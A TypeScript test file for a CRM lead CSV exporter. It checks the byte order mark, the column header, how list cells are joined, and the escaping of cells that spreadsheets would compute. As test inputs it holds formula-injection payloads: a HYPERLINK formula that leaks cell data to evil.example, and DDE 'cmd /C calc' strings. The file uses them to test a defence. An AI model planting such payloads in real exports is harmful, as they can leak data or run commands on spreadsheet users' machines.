import fc from 'fast-check';
import { text } from 'node:stream/consumers';
import { type GhlLeadRow } from '#projections/ghl-leads/ghl-lead.entity.js';
import { type CsvRecord, readCsv } from '#test/support/read-csv.js';
import { leadCsv } from './lead-csv.js';

const LEAD: GhlLeadRow = {
  id: 'one',
  ghlContactId: null,
  firstName: 'Ragnhild',
  lastName: 'Ulfsdottir',
  email: 'ragnhild@example.org',
  phone: '+4712345678',
  interests: ['sagas', 'maps'],
  leadSource: 'rpg_game_embed',
  ghlTags: [],
  customFields: {},
  userId: null,
  engagementEvents: [],
  conversionStatus: 'lead',
  createdAt: '2026-03-14T19:10:00.000Z',
  lastEngagement: null,
  syncStatus: 'pending',
  syncError: null,
  lastGhlSync: null,
  contactOrigin: null,
  refused: [],
  withheld: [],
  missing: [],
  erased: false,
};

const BOM = '\ufeff';
const written = async (...leads: readonly Partial<GhlLeadRow>[]): Promise<string> =>
  text(leadCsv(leads.map((lead) => ({ ...LEAD, ...lead }))));
const records = async (...leads: readonly Partial<GhlLeadRow>[]): Promise<readonly CsvRecord[]> =>
  readCsv((await written(...leads)).replace(BOM, ''));
const firstNameOf = async (firstName: string): Promise<string | undefined> => (await records({ firstName }))[1]?.[2];

it('begins with the byte order mark and the names of the columns, which stand there without leads too', async () => {
  const header =
    'id,ghlContactId,firstName,lastName,email,phone,interests,leadSource,ghlTags,customFields,userId,conversionStatus,createdAt,lastEngagement\r\n';
  // A text consumer removes the byte order mark, so the test looks at the bytes.
  const chunks: Buffer[] = [];
  for await (const chunk of leadCsv([])) chunks.push(chunk as Buffer);
  expect(Buffer.concat(chunks)).toEqual(Buffer.from(BOM + header));
});

it('has a record for each lead, with its lists in one cell each', async () => {
  const lead = {
    interests: ['sagas', 'maps'],
    ghlTags: ['player'],
    customFields: { company: 'Hedeby, Ltd', size: '12' },
  };
  expect(
    (await records(lead, { id: 'two' })).slice(1).map((record) => [record[0], record[5], record[6], record[9]]),
  ).toEqual([
    ['one', '+4712345678', 'sagas, maps', 'company: Hedeby, Ltd, size: 12'],
    ['two', '+4712345678', 'sagas, maps', ''],
  ]);
});

it.each([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("https://evil.example?x="&A1,"look")', `'=HYPERLINK("https://evil.example?x="&A1,"look")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['a;=1+1', "a;'=1+1"],
  ['a\n=1+1', "a\n'=1+1"],
  ['\uff1d1+1', "'\uff1d1+1"],
  ['+44', "'+44"],
  ['+44 20 7946 0958', "'+44 20 7946 0958"],
  ['+4420794609581234567', "'+4420794609581234567"],
  ['+442079460958', '+442079460958'],
  ['a=b', 'a=b'],
  ['Mary-Ann', 'Mary-Ann'],
])('writes %j so that no spreadsheet computes it', async (typed, cell) => {
  expect(await firstNameOf(typed)).toBe(cell);
});

describe('for a CRM', () => {
  const cells = async (lead: Partial<GhlLeadRow>, reader?: 'crm'): Promise<readonly (string | undefined)[]> => {
    const [, record] = readCsv((await text(leadCsv([{ ...LEAD, ...lead }], reader))).replace(BOM, ''));
    return [record?.[2], record?.[5]];
  };

  it.each(['+44 20 7946 0958', '+44-20-7946-0958', '+442079460958', '+47 900 00 001'])(
    'the number %s stays as it was typed',
    async (phone) => {
      expect(await cells({ firstName: 'Ann', phone }, 'crm')).toEqual(['Ann', phone]);
    },
  );

  it.each([
    '+1+1',
    '+44',
    '+44 (0) 20 7946 0958',
    '+44 20 7946 0958;=1+1',
    '+44 20 7946 0958\n',
    '+-4420794609',
    '+44 -20 7946 0958',
    '+44 20 79 46 09 58 12 34 56 78',
    "=cmd|' /C calc'!A0",
    '-4420794609',
    '@SUM(A1)',
  ])('%j is guarded as for a spreadsheet', async (phone) => {
    const guarded = await cells({ phone });
    expect(guarded[1]).toMatch(/^'/);
    expect(await cells({ phone }, 'crm')).toEqual(guarded);
  });

  it('a number in another column is guarded', async () => {
    expect((await cells({ firstName: '+44 20 7946 0958' }, 'crm'))[0]).toBe("'+44 20 7946 0958");
  });
});

it.each(['Ann "the Bold", of Hedeby', 'two\r\nlines', 'Þóra 帆 ⛵ שלום', 'comma, quote " and ; both', ' spaces '])(
  'keeps %j',
  async (typed) => {
    expect(await firstNameOf(typed)).toBe(typed);
  },
);

it('gives every text back, but for apostrophes before what would be computed', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.string({ unit: 'binary', minLength: 1 }), { maxLength: 5 }), async (names) => {
      const read = (await records(...names.map((firstName) => ({ firstName })))).slice(1);
      expect(read.map((record) => record.length)).toEqual(names.map(() => 14));
      expect(read.map((record) => record[2]?.replaceAll("'", ''))).toEqual(
        names.map((name) => name.replaceAll("'", '')),
      );
      for (const record of read) expect(record[2]).not.toMatch(/(?:^|[;\t\r\n])[=+\-@]/);
    }),
    { numRuns: 60 },
  );
});
